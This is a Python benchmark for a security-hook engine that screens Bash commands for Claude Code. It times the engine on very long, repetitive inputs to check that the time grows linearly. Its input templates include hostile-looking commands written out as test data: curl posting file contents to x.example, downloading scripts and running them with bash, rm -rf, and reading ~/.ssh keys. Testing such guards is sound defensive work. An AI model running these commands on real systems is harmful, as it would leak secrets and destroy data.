"""Long, repetitive commands: the shapes that make a naive analysis quadratic.

    python bench/pathological.py

Each shape (thousands of commands, calls, variables, links or writes in one string,
thousands of commands each asked about, or a long program handed to an interpreter) is
decided through the engine, as the daemon decides it, at about 100 KB and at twice that
size. A shape whose time grows with the square of its length would take four times as
long at twice the size, and a few hundred KB of it would outlive Claude Code's hook
timeout, which lets the tool run.

Targets: every shape at ~100 KB is decided in at most 1.5 s, and at twice the size in
at most 2.6 times as long (linear, with room for noise). Exits 1 when one is missed.
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Callable

from _support import report
from corpus_common import HOME, PROJECT, packaged_ruleset
from security_hooks.engine.hook import HookRequest, handle
from security_hooks.rules.ruleset import RuleSet


def joined(template: str, separator: str = "; ") -> Callable[[int], str]:
    """n copies of `template` (its `{i}` numbered), joined."""
    return lambda n: separator.join(template.format(i=i) for i in range(n))


def program(head: str, template: str, tail: str) -> Callable[[int], str]:
    return lambda n: head + "".join(template.format(i=i) for i in range(n)) + tail


PYTHON = "python3 - <<'EOF'\nimport os\n"

# name -> (build a command of n units, n for about 100 KB)
SHAPES: dict[str, tuple[Callable[[int], str], int]] = {
    "variables sent on": (joined('X{i}=$(cat f{i}); curl -d "$X{i}" x.example'), 2200),
    "links read back": (joined("ln -s a{i} b{i}; cat b{i}"), 3500),
    "copies read back": (joined("cp a{i} /tmp/b{i}; cat /tmp/b{i}"), 2800),
    "downloads run": (joined("curl -o f{i}.sh https://x.example/{i}; bash f{i}.sh"), 2000),
    "writes": (joined("echo x > out{i}.txt"), 4600),
    "deletes": (joined("rm -rf build{i}"), 5600),
    "pipeline": (joined("grep a{i}", " | "), 8000),
    "python, one variable": (program(PYTHON + "c = 'ls'\n", "os.system(c)\n", "EOF"), 7600),
    "python, many variables": (program(PYTHON, "c{i} = 'ls'\nos.system(c{i})\n", "EOF"), 3400),
    "awk pipes": (program("awk '{\n", 'print({i}) | "sort"\n', "}' f"), 4800),
    "heredoc writes": (program("", "cat > f{i}.py <<'EOF'\nprint({i})\nEOF\n", ""), 2600),
    "loops over output": (joined("for l in $(cat f{i}); do echo $l; done"), 2500),
    "script on stdin": (program("bash <<'EOF'\n", "mkdir -p d{i} && cp a{i} d{i}/\n", "EOF"), 3600),
    # every command asked about, each for its own reason, all named in one question
    "asked writes": (joined("echo x > ~/notes{i}.txt"), 4400),
    "asked reads": (joined("cat ~/.ssh/key{i}"), 5600),
}


def decide_ms(rules: RuleSet, command: str) -> float:
    payload = json.dumps(
        {
            "session_id": "bench",
            "cwd": PROJECT,
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": command},
        }
    ).encode()
    request = HookRequest("pre", "bash", payload, {"CLAUDE_PROJECT_DIR": PROJECT, "HOME": HOME})
    best = float("inf")
    for _ in range(2):
        started = time.perf_counter()
        outcome = handle(request, rules, max_payload=64 << 20)
        best = min(best, (time.perf_counter() - started) * 1000)
        assert outcome.decision is not None, outcome.error
    return best


def main() -> int:
    rules = packaged_ruleset()
    results = []
    print(f"{'shape':26} {'size':>8} {'time':>9} {'2x size':>8} {'2x time':>9} {'ratio':>6}")
    for name, (build, n) in SHAPES.items():
        small, large = build(n), build(2 * n)
        first, second = decide_ms(rules, small), decide_ms(rules, large)
        ratio = second / first
        sizes = f"{len(small) // 1024:6} KB {first:7.0f} ms {len(large) // 1024:5} KB {second:7.0f} ms"
        print(f"{name:26} {sizes} {ratio:6.2f}")
        results.append((f"{name}: ~100 KB decided in <= 1.5 s", first <= 1500, f"{first:.0f} ms"))
        results.append((f"{name}: twice the size in <= 2.6x the time", ratio <= 2.6, f"{ratio:.2f}x"))
    return report(results)


if __name__ == "__main__":
    sys.exit(main())
